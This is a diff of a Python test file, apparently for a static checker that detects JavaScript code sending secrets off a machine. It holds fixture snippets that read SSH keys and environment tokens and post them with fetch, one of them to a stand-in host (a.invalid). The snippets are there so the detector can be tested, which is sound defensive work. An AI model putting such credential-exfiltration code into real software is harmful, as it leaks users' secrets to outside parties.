@@ -114,3 +114,20 @@ fetch('https://a.invalid/s', { method: 'POST', body: text });
     assert "SSH keys (~/.ssh/id_rsa) (line 1)" in finding.message
     assert "sends it (line 4)" in finding.message
     assert finding.line == 4
+
+
+CLIENT = """
+const { A_TOKEN, B_SECRET } = process.env;
+class Client { constructor() { this._options = { a: A_TOKEN, b: B_SECRET }; } }
+"""
+
+
+def test_a_field_of_a_class_is_none_of_the_objects_that_a_function_makes() -> None:
+    """Two libraries in one bundle have fields of the same name."""
+    request = "function Request(o) { this._options = o; }\n"
+    run = ".prototype.run = function () { fetch(url, { body: JSON.stringify(this._options) }); };"
+    assert findings_of(CHECK, f"{START}{CLIENT}{request}Request{run}") == []
+    assert worst(findings_of(CHECK, f"{START}{CLIENT}Client{run}"), RULE) == Severity.CRITICAL
+    heir = CLIENT.replace("class Client {", "class Client extends Request { ")
+    sent = findings_of(CHECK, f"{START}{heir}{request}Request{run}")
+    assert worst(sent, RULE) == Severity.CRITICAL
